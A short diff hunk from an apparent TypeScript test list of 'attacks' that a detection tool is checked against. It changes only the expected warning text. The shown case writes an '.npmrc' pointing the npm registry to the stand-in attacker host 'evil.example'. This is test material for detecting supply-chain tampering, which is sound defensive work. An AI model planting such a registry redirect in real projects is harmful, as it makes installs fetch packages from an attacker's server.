@@ -789,7 +789,7 @@ export const attacks: readonly [name: string, edit: Edit, door: Door, text: stri
     'npm asks another registry',
     write('.npmrc', 'registry=https://evil.example\n'),
     'shown',
-    '.npmrc: registry is "https://evil.example"',
+    '.npmrc: registry has changed.',
   ],
   [
     'a component has another name',
